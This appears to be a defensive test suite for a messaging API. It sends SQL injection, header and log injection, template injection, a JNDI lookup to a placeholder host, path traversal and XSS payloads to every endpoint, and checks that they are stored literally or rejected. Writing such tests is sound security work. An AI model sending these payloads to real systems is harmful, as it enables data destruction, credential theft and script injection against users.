"""Each string of each declared call, said so that it means something else to SQL, a header, a log or a page."""

import json
import re
import signal
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.support.contract import openapi_document
from tests.support.line import line
from tests.support.people import Answer, Person
from tests.support.process import ServerProcess

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE Messages; --",
    "1'; UPDATE Users SET IsAdmin = 1; --",
    "1 UNION SELECT PasswordHash FROM Users",
    "1; WAITFOR DELAY '0:0:9' --",
    "'||pg_sleep(9)||'",
    "\\'; SELECT randomblob(1000000000); --",
    '" OR ""="',
    "') ESCAPE '\\",
    "%_[a-z]^*?",
    "NEAR(a b) OR messageContent:* AND NOT",
    "{id} :id %(id)s ? @p1",
)
INJECTED = (
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "x\n2026-01-06 10:00:00,000 ERROR regoods.access: forged",
    "x\r2026-01-06 10:00:00,000 ERROR regoods.access: forged",
    "x\u0085\u2028\u2029forged",
    "\x1b[2J\x1b]0;forged\x07\x9b31m",
    "${jndi:ldap://evil.example/a} {{7*7}} %n%s%d #{7*7}",
    "../../../../etc/passwd",
    "<img src=x onerror=alert(1)>",
)
HOSTILE = (*SQL, *INJECTED)
LINE = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z (DEBUG|INFO|WARNING|ERROR) ([\w.]+:|\w+) [ -~]*")
"""Of the log, whole: printable ASCII behind the type of an event, or the name of who says it."""

NEW = {"recipientId": 3, "messageContent": "Hello"}
BODIES: dict[str, dict[str, Any]] = {"POST /messages": NEW, "PUT /messages/{messageId}": {"messageContent": "Hello"}}
"""What is good of each body; the calls that have one are named by the document."""


def calls(text: str) -> Iterator[tuple[str, str, str, dict[str, str], dict[str, Any] | None]]:
    """(what, method, path, headers, body): the text in the place of each argument of each call."""
    for path, operations in openapi_document()["paths"].items():
        for verb, operation in operations.items():
            method, address = verb.upper(), path.removeprefix("/api/v1")
            call = f"{method} {address}"
            good = BODIES.get(call)
            assert ("requestBody" in operation) == (good is not None or address == "/messages/attachments"), call
            for place in operation.get("parameters", []):
                name, where = place["name"], place["in"]
                filled = re.sub(r"\{\w+\}", quote(text, safe="") if where == "path" else "1", address)
                query = f"?{name}={quote(text, safe='')}" if where == "query" else ""
                if name != "query" and "/search" in address:
                    query += "&query=Hello"
                headers = {name: text} if where == "header" and re.fullmatch("[ -~]+", text) else {}
                yield f"{call} {name}", method, filled + query, headers, good
            for field in good or ():
                yield f"{call} {field}", method, re.sub(r"\{\w+\}", "1", address), {}, (good or {}) | {field: text}
    for field in ("messageType", "attachmentUrl", "postId", "parentMessageId", "unknown", text):
        yield f"POST /messages {field}", "POST", "/messages", {}, NEW | {field: text}
    yield "no call", "GET", "/" + quote(text, safe=""), {}, None


@pytest.mark.gen_test(timeout=240)
async def test_no_string_means_more_than_itself(tmp_path: Path) -> None:
    server = ServerProcess(
        tmp_path, RATE_LIMIT_WRITES_PER_MINUTE="0", RATE_LIMIT_READS_PER_MINUTE="0", LOG_LEVEL="debug"
    )
    try:
        await server.started()
        ann, chloe = server.person(2), server.person(3)
        stored = [message["messageContent"] for message in (await chloe.get("/messages/user/2?limit=100")).data]
        for text in HOSTILE:
            for what, method, path, headers, body in calls(text):
                root = "/api/v1" if path.startswith("/messages") or what == "no call" else ""
                raw = None if body is None else json.dumps(body).encode()
                answer = await ann.call(method, path, raw=raw, headers=headers, root=root)
                is_harmless(answer, f"{what}: {text!r}")
                if answer.status == 201:
                    stored.append(answer.data["messageContent"])
                    assert answer.data["messageContent"] == (body or {})["messageContent"]
            # As often as it was stored, and as it was said.
            kept = [message["messageContent"] for message in (await chloe.get("/messages/user/2?limit=100")).data]
            assert kept == stored[-100:]
            found = await chloe.get(f"/messages/search?query={quote(text.strip(), safe='')}")
            assert {message["messageContent"] for message in found.data} == {text}
        async with line(server) as wire:
            for target in (b"/\x852026-01-06\x85forged", b"/\x9b2J\x9b31m", b"/\xe2\x80\xa8forged"):
                await wire.say(b"GET " + target + b" HTTP/1.1\r\nHost: x\r\n\r\n")
                assert (await wire.answer()).status == 404
        server.signal(signal.SIGTERM)
        assert await server.exit_code() == 0  # what it logged last is written then
        assert r"path=/\x9b2J" in server.errors
        for logged in server.errors.splitlines():
            assert LINE.fullmatch(logged), logged
            assert " ERROR " not in logged, logged
    finally:
        await server.clean_up()


def is_harmless(answer: Answer, what: str) -> None:
    assert answer.status in (200, 201, 400, 403, 404, 422), (what, answer.raw[:300])
    assert {"Set-Cookie", "Location"}.isdisjoint(answer.headers), what
    for word in ("Traceback", "sqlite", "SELECT *", "PasswordHash,"):
        assert word not in answer.raw.decode(), what


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)//http://x",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "javascript://x/%0aalert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "vbscript:msgbox(1)",
        "blob:https://regoods.com/1",
        "file:///etc/passwd",
        "ftp://x/a.jpg",
        "view-source:https://x/a.jpg",
        "//evil.example/a.jpg",
        "/\\evil.example/a.jpg",
        "https:evil.example",
        "https:///a.jpg",
        "https://",
        'https://x/"onerror="alert(1)',
        "https://x/a.jpg\r\nX: y",
        "https://x/<script>",
        "https://[::1",
        "https://\u0435xample.com/a.jpg",
    ],
)
async def test_an_attachment_is_an_address_of_the_web(ann: Person, ben: Person, url: str) -> None:
    at_ben = await ben.connect()

    refused = await ann.post("/messages", {"recipientId": 2, "messageContent": "Look", "attachmentUrl": url})

    assert (refused.status, refused.field) == (400, "attachmentUrl")
    assert await at_ben.quiet() == []
